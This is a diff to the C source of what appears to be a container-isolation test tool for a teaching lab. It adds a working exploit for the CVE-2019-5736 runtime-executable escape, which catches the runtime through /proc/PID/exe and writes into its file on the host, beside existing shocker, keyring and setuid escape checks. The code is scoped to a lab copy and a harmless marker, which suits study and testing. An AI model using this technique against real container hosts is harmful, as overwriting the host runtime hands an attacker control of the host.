@@ -10,9 +10,11 @@
  * it prints a token only the host knows; where it claims to have changed something,
  * the host looks.
  *
+ *     /escape --true
  *     /escape --handle FILE
  *     /escape --add-key DESCRIPTION PAYLOAD | --read-key DESCRIPTION | --remove-key DESCRIPTION
  *
+ * (what the host runs with `exec` for the runtime-exe escape) does nothing;
  * (on the host, for the shocker escape) prints FILE's handle: its type and bytes in hex;
  * (on the host, for the keyring escape) puts a key into root's user keyring, prints its
  * payload, takes it out again.
@@ -20,6 +22,7 @@
  * Built by chapter-08 with `cc -static` (no library is needed inside the container).
  */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <net/if.h>
@@ -38,6 +41,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/time.h>
+#include <time.h>
 #include <unistd.h>
 
 static FILE *verdict;
@@ -300,6 +304,68 @@ static int setuid_escape(const char *folder) {
     return escaped("made a set-user-ID root program in the shared folder");
 }
 
+/* CVE-2019-5736: the runtime's own executable. When the host runs `exec` into the
+   container, as an engine does, the runtime's process enters the container before it
+   execs the command; for that moment /proc/PID/exe is the runtime's file on the host.
+   Open it with O_PATH (writing a file that is being executed fails, ETXTBSY), then
+   reopen it for writing through /proc/self/fd/N once nothing executes it any more.
+   We aim only at the file whose device and inode the host gave us (the lab's copy of
+   the runtime), never at another. The host makes DONE when its last exec has ended. */
+static int runtime_exe_escape(const char *device, const char *inode, const char *ready, const char *done) {
+    dev_t want_device = strtoull(device, NULL, 10);
+    ino_t want_inode = strtoull(inode, NULL, 10);
+    FILE *flag = fopen(ready, "w");
+    if (flag) fclose(flag);
+    int caught = -1, refused = 0;
+    long last_pid = 0;
+    struct timespec start, now;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    double finished_at = 0;
+    for (;;) {
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        double elapsed = (now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9;
+        if (finished_at == 0 && access(done, F_OK) == 0) finished_at = elapsed;
+        if (elapsed > 60 || (finished_at > 0 && elapsed - finished_at > 2)) break;
+        if (caught < 0) {
+            DIR *proc = opendir("/proc");
+            struct dirent *entry;
+            while (proc && caught < 0 && (entry = readdir(proc))) {
+                long pid = strtol(entry->d_name, NULL, 10);
+                if (pid <= 0 || pid == getpid()) continue;
+                char link[64];
+                snprintf(link, sizeof link, "/proc/%ld/exe", pid);
+                int fd = open(link, O_PATH | O_CLOEXEC);
+                if (fd < 0) {
+                    if (errno == EACCES || errno == EPERM) { refused = errno; last_pid = pid; }
+                    continue;
+                }
+                struct stat info;
+                if (fstat(fd, &info) == 0 && info.st_dev == want_device && info.st_ino == want_inode) { caught = fd; last_pid = pid; }
+                else close(fd);
+            }
+            if (proc) closedir(proc);
+        }
+        if (caught >= 0) {
+            char path[64];
+            snprintf(path, sizeof path, "/proc/self/fd/%d", caught);
+            int w = open(path, O_WRONLY | O_APPEND);
+            if (w >= 0) {
+                int wrote = write(w, "ISOLATION-PWNED\n", 16) == 16;
+                close(w);
+                if (!wrote) return blocked("write into the runtime's executable");
+                fprintf(verdict, "ESCAPED wrote into the runtime's file on the host, through /proc/%ld/exe\n", last_pid);
+                return 0;
+            }
+            if (errno != ETXTBSY) return blocked("reopen the runtime's executable for writing");
+            usleep(1000);
+        }
+    }
+    if (caught >= 0) { errno = ETXTBSY; return blocked("the runtime's executable stayed busy"); }
+    if (refused) { errno = refused; return blocked("open /proc/PID/exe of the runtime's process"); }
+    errno = ESRCH;
+    return blocked("no process of the runtime's file seen inside");
+}
+
 /* name_to_handle_at(2): what the 2014 exploit guessed by brute force, asked for. */
 static int print_handle(const char *file) {
     struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
@@ -313,6 +379,7 @@ static int print_handle(const char *file) {
 }
 
 int main(int argc, char **argv) {
+    if (argc == 2 && strcmp(argv[1], "--true") == 0) return 0;  /* what the host execs */
     if (argc == 3 && strcmp(argv[1], "--handle") == 0) return print_handle(argv[2]);
     if (argc == 4 && strcmp(argv[1], "--add-key") == 0) return host_key(argv[1], argv[2], argv[3]);
     if (argc == 3 && (strcmp(argv[1], "--read-key") == 0 || strcmp(argv[1], "--remove-key") == 0)) return host_key(argv[1], argv[2], "");
@@ -339,6 +406,7 @@ int main(int argc, char **argv) {
     if (strcmp(name, "keyring") == 0 && count == 1) return keyring_escape(arg[0]);
     if (strcmp(name, "raw-socket") == 0 && count == 1) return raw_escape(arg[0]);
     if (strcmp(name, "setuid") == 0 && count == 1) return setuid_escape(arg[0]);
+    if (strcmp(name, "runtime-exe") == 0 && count == 4) return runtime_exe_escape(arg[0], arg[1], arg[2], arg[3]);
     fprintf(verdict, "n/a unknown escape %s\n", name);
     return 2;
 }
